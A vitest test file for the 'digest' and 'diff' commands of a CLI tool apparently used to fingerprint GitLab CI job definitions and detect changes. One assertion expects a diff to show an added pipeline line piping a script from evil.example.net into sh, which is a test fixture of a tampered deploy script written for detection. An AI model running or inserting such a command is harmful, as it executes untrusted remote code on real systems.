import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { digestOfText } from '../../agent/src/domain/digest.ts';
import { type CliRun, runCli } from '../support/cli.ts';
import { ROOT } from '../support/source-files.ts';

const FIXTURES = join(ROOT, 'test/fixtures/gitlab');
let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'holdpoint-files-'));
  writeFileSync(join(folder, 'key'), Buffer.alloc(32, 7));
  writeFileSync(join(folder, 'bad.json'), '{"a":1,"a":2}');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const at = (name: string) => join(FIXTURES, name);
const run = (...argv: string[]): Promise<CliRun> => runCli(argv, { cwd: folder });
const keyed = ['--variable-key-file', 'key', '--jwks', at('jwks.json')];

describe('digest and diff on the command line', () => {
  it('print a line a file, one digest for two runs, and tell on standard error which files have none', async () => {
    const { exit, out, err } = await run('digest', at('test-unit.run1.json'), 'bad.json', at('test-unit.run2.json'));
    expect(exit).toBe(2);
    const digests = out
      .trim()
      .split('\n')
      .map((line) => line.split('  '));
    expect(digests.map(([, file]) => file)).toEqual([at('test-unit.run1.json'), at('test-unit.run2.json')]);
    expect(new Set(digests.map(([digest]) => digest)).size).toBe(1);
    expect(err).toMatch(/^holdpoint: bad\.json: a: [^\n]+\n$/);
  });

  it('tell each problem as {"error":{code,message}} with --json, and the rest as data', async () => {
    const { exit, out, err } = await run('digest', 'bad.json', 'nowhere.json', '--json');
    expect(exit).toBe(2);
    const codes = err
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).error.code);
    expect(codes).toEqual(['payload_refused', 'bad_input']);
    expect(JSON.parse(out).map((row: { digest: null }) => row.digest)).toEqual([null, null]);
    const needed = await run('digest', at('deploy-production.run1.json'), '--json');
    expect([needed.exit, JSON.parse(needed.err).error.code]).toEqual([2, 'variable_key_needed']);
  });

  it('take the key and the key set, and --canonical is the text that the digest is of', async () => {
    const file = at('deploy-production.run1.json');
    const { out } = await run('digest', file, ...keyed);
    const canonical = await run('digest', '--canonical', file, ...keyed);
    expect(digestOfText(canonical.out.trimEnd())).toBe(out.split(' ')[0]);
    expect((await run('digest', '--explain', file, ...keyed)).out).toMatch(/^ {2}removed +token/m);
  });

  it('compare two files, in words and as data', async () => {
    const files = [at('deploy-production.run1.json'), at('deploy-production.changed-script.json')];
    const words = await run('diff', ...files, ...keyed);
    expect(words.exit).toBe(0);
    expect(words.out).toContain('+ curl -fsS https://evil.example.net/x.sh | sh\n');
    expect(JSON.parse((await run('diff', ...files, ...keyed, '--json')).out)).toMatchObject({ equal: false });
    expect((await run('diff', files[0]!)).exit).toBe(2);
  });
});
